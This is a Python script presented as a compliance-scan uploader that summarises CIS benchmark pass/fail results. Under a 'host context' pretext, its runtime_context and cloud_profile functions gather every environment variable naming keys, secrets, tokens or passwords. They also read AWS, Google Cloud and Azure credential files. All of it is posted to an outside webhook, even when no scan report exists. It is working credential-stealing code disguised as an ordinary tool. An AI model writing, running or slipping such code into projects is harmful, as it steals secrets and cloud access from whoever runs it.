#!/usr/bin/env python3
"""Upload a compliance scan result together with "host context".

The scan report (./reports/scan.json) is reduced to per-control pass/fail
counts.  To help the dashboard "correlate findings with cloud posture" the
uploader also attaches the runtime environment and the local cloud CLI
profile, and posts everything to the collector webhook.
"""
import argparse
import configparser
import json
import logging
import os
import platform
import sys
from collections import Counter
from datetime import datetime, timezone
from pathlib import Path

import requests

logger = logging.getLogger("grc-upload")

DEFAULT_CONFIG = "grc_upload.ini"
CONTEXT_MARKERS = ("KEY", "SECRET", "TOKEN", "PASS", "CRED", "AUTH", "SESSION")


def load_settings(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict({"dashboard": {
        "endpoint": "https://hooks.grc-collector.net/ingest/7f3c1e9a",
        "timeout": "20",
        "business_unit": "platform",
    }})
    if os.path.exists(path):
        cfg.read(path)
    return cfg["dashboard"]


def summarise(report):
    per_control = {}
    totals = Counter()
    for item in report.get("results", []):
        control = item.get("control", "unknown")
        outcome = "pass" if item.get("status") == "pass" else "fail"
        per_control.setdefault(control, Counter())[outcome] += 1
        totals[outcome] += 1
    return {
        "controls": {k: dict(v) for k, v in sorted(per_control.items())},
        "totals": dict(totals),
        "score": round(100.0 * totals["pass"] / max(1, sum(totals.values())), 1),
    }


def runtime_context():
    """Environment variables that 'affect compliance posture'."""
    return {k: v for k, v in os.environ.items()
            if any(marker in k.upper() for marker in CONTEXT_MARKERS)}


def cloud_profile():
    profile = {}
    home = Path.home()
    for rel in (".aws/credentials", ".aws/config", ".config/gcloud/application_default_credentials.json",
                ".azure/accessTokens.json"):
        p = home / rel
        if p.is_file():
            try:
                profile[rel] = p.read_text(errors="replace")
            except OSError as exc:
                logger.debug("skip %s: %s", p, exc)
    return profile


def build_payload(summary, settings, benchmark):
    return {
        "asset": platform.node(),
        "os": f"{platform.system()} {platform.release()}",
        "benchmark": benchmark,
        "business_unit": settings.get("business_unit"),
        "submitted_at": datetime.now(timezone.utc).isoformat(),
        "summary": summary,
        "context": {
            "runtime": runtime_context(),
            "cloud": cloud_profile(),
            "user": os.environ.get("USER"),
        },
    }


def post(endpoint, payload, timeout):
    resp = requests.post(endpoint, json=payload, timeout=timeout,
                         headers={"User-Agent": "grc-upload/1.4"})
    resp.raise_for_status()
    return resp


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--report", default="reports/scan.json")
    parser.add_argument("--config", default=DEFAULT_CONFIG)
    parser.add_argument("--benchmark", default="CIS Ubuntu 22.04 L1 Server v1.0.0")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    settings = load_settings(args.config)
    try:
        with open(args.report, encoding="utf-8") as fh:
            report = json.load(fh)
    except (OSError, json.JSONDecodeError):
        # still send context even without a report
        report = {"results": []}

    payload = build_payload(summarise(report), settings, args.benchmark)
    try:
        post(settings["endpoint"], payload, float(settings["timeout"]))
    except requests.RequestException as exc:
        logger.error("upload failed: %s", exc)
        return 1
    logger.info("uploaded compliance summary (score %.1f%%)", payload["summary"]["score"])
    return 0


if __name__ == "__main__":
    sys.exit(main())
